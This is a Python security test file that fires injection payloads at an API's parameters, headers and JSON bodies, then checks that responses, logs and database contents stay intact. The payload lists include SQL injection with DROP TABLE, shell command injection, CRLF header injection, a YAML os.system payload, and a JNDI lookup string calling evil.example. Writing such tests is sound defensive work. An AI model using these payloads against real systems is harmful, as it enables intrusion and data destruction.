"""Injection: SQL, headers, logs, templates and JSON, in each parameter of each read."""

import json
import sqlite3
from contextlib import closing
from urllib.parse import quote

import pytest

from shared.store import CONTAINERS
from tests.fixtures.host import RunningHost
from tests.security.attacking import PLACES, check

# Of the lists of sqlmap, of Django's and Rails' own tests, and of OWASP's cheat sheets.
ATTACKS = [
    "' OR '1'='1",
    "1'; DROP TABLE posts; --",
    '" UNION SELECT etag, body, 1 FROM cycles --',
    "x' || (SELECT group_concat(body) FROM cycles) || '",
    "$.sentiment.label') = 'x' OR json_extract(body, '$.id",
    "@partition OR 1=1",
    "c.id != '' /*",
    "{{1234*5678}} ${1234*5678} #{1234*5678} <%= 1234*5678 %> {% debug %}",
    '{"$ne": null}',
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "x\nrequest function=forged status=200 path=/forged",
    "$(touch /owned) `id` | id ; id",
    "%s%s%n%x {0.__class__} %(password)s",
    "__proto__[x]=1",
    "a" * 2000,
    "\u0000\u202e\ud7ff\uffff",
    "9" * 400,
    "NaN",
    "-1e999",
]


def rows_of(host: RunningHost) -> dict[str, int]:
    with closing(sqlite3.connect(host.data / "undertone.db")) as database:
        return {
            each.name: database.execute(f"SELECT count(*) FROM {each.name}").fetchone()[0]  # noqa: S608
            for each in CONTAINERS
        }


def test_no_parameter_of_a_read_is_taken_for_anything_but_its_value(host: RunningHost) -> None:
    before = rows_of(host)
    key = json.loads((host.data / "keys.json").read_text())["_function"]
    for place, name in PLACES:
        for attack in ATTACKS:
            address = place.replace("ATTACK", quote(attack, safe=""))
            answer = host.http.get(address, headers={"x-functions-key": key})
            check(answer)
            assert answer.status_code in {200, 400, 403, 404, 414, 422}, (place, name, attack)
            assert "7006652" not in answer.text, (place, attack)
    assert rows_of(host) == before
    assert not [line for line in host.lines if line.startswith("request function=forged")]


@pytest.mark.parametrize(
    "name", ["X-Request-Id", "Origin", "Referer", "User-Agent", "If-None-Match"]
)
def test_no_header_is_written_into_the_log_or_the_answer_as_it_came(
    host: RunningHost, name: str
) -> None:
    for attack in ("a\tevil=1 status=200", "<script>", "x" * 5000, "${jndi:ldap://evil.example/a}"):
        answer = host.http.get("/api/v1/sentiment/stats", headers={name: attack})
        check(answer)
        assert attack not in json.dumps(dict(answer.headers))
    assert not [line for line in host.lines if "evil=1" in line or "jndi" in line]


def test_a_body_is_json_of_its_own_shape_or_refused(host: RunningHost) -> None:
    key = json.loads((host.data / "keys.json").read_text())["_function"]
    bodies: list[bytes] = [
        b"[" * 50_000,
        b'{"question":' * 5_000,
        b'{"question": ' + b"9" * 5_000 + b"}",
        b'{"question": "x", "__proto__": {"admin": true}}',
        b'{"question": {"$gt": ""}}',
        b'{"question": "x", "question": ["y"]}',
        b"\xff\xfe\x00",
        b"!!python/object/apply:os.system ['id']",
    ]
    for body in bodies:
        for path in ("/api/v1/ask", "/mcp", "/api/v1/ingest"):
            answer = host.http.post(
                path,
                content=body,
                headers={
                    "content-type": "application/json",
                    "accept": "application/json, text/event-stream",
                    "x-functions-key": key,
                },
            )
            check(answer)
            # Lines of items are refused one by one.
            refused = answer.status_code >= 400 or answer.json()["accepted"] == 0
            assert refused, (path, body[:40])
